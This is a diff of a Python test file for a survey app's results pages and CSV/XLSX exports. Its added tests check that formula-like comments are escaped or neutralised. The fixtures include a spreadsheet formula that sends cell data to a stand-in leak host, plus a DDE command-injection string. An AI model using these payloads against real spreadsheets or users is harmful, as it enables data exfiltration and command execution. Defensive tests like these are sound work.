@@ -13,6 +13,7 @@ import sqlalchemy as sa
 
 from maturity.extensions import db
 from maturity.rounds import links, services
+from maturity.results import publication
 from maturity.rounds.models import Invitation
 from maturity.tenancy.models import OrgRole
 
@@ -47,7 +48,7 @@ def _fill(app, world, sizes: dict[str, int], customers: int = 0, comments=(), se
                 {f"mirror.m{j}.customer": str(rng.randint(4, 8)) for j in range(1, 6)},
                 comments[i] if i < len(comments) else "", "nl")
         if close:
-            services.close_round(round_)  # publishes: the ballot box is released
+            publication.close(round_)  # publishes: the ballot box is released
     db.session.flush()
     return round_
 
@@ -89,14 +90,30 @@ def test_a_small_department_and_its_complement_are_hidden(app, client, auth, wor
 
 
 def test_customer_comments_above_their_threshold(app, client, auth, world):
-    round_ = _fill(app, world, {"Wonen": 6}, customers=10, comments=["=HYPERLINK(\"http://x\")", "Goed bereikbaar"])
+    """A customer who types a formula as a comment: the page shows it as text, and no
+    spreadsheet gets it, as a formula or at all (customers' comments are not exported,
+    docs/privacy.md); the employees' comments, which are, are neutralised
+    (test_employee_voice)."""
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://x.example/?leak="&A1,"klik")'
+    round_ = _fill(app, world, {"Wonen": 6}, customers=10, comments=[formula, "Goed bereikbaar"])
     auth.login(world.ours.director)
     html = client.get(_url(world, round_)).get_data(as_text=True)
     assert "Goed bereikbaar" in html
+    assert '=HYPERLINK(&#34;http://x.example/?leak=&#34;&amp;A1,&#34;klik&#34;)' in html  # as text, escaped
+    assert 'href="http://x.example' not in html
+
+    text = client.get(_url(world, round_, "results.csv")).get_data(as_text=True)
+    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]
+    workbook = load_workbook(io.BytesIO(client.get(_url(world, round_, "results.xlsx")).data))
+    cells += [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "Goed bereikbaar" not in cells and not any("HYPERLINK" in cell for cell in cells)
+    assert not any(cell.startswith(("=", "@")) for cell in cells)
 
 
 def test_exports_neutralise_formulas(app, client, auth, world):
-    from maturity.results.exports import neutralise
+    from maturity.utils import neutralise
 
     assert neutralise("=1+1") == "'=1+1" and neutralise("+31 cmd") == "'+31 cmd" and neutralise("@x") == "'@x"
     assert neutralise("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0" and neutralise("\tx") == "'\tx"
@@ -234,7 +251,7 @@ def test_the_customer_mirror_has_its_own_minimum(app, client, auth, world, minim
     round_ = _fill(app, world, {"Wonen": 6}, customers=6, close=False)
     round_.min_customer_group_size = minimum
     with app.test_request_context():
-        services.close_round(round_)
+        publication.close(round_)
         results = round_results(round_)
     assert results.has_customers is shown
     assert (results.profile.mirror_customer is not None) is shown
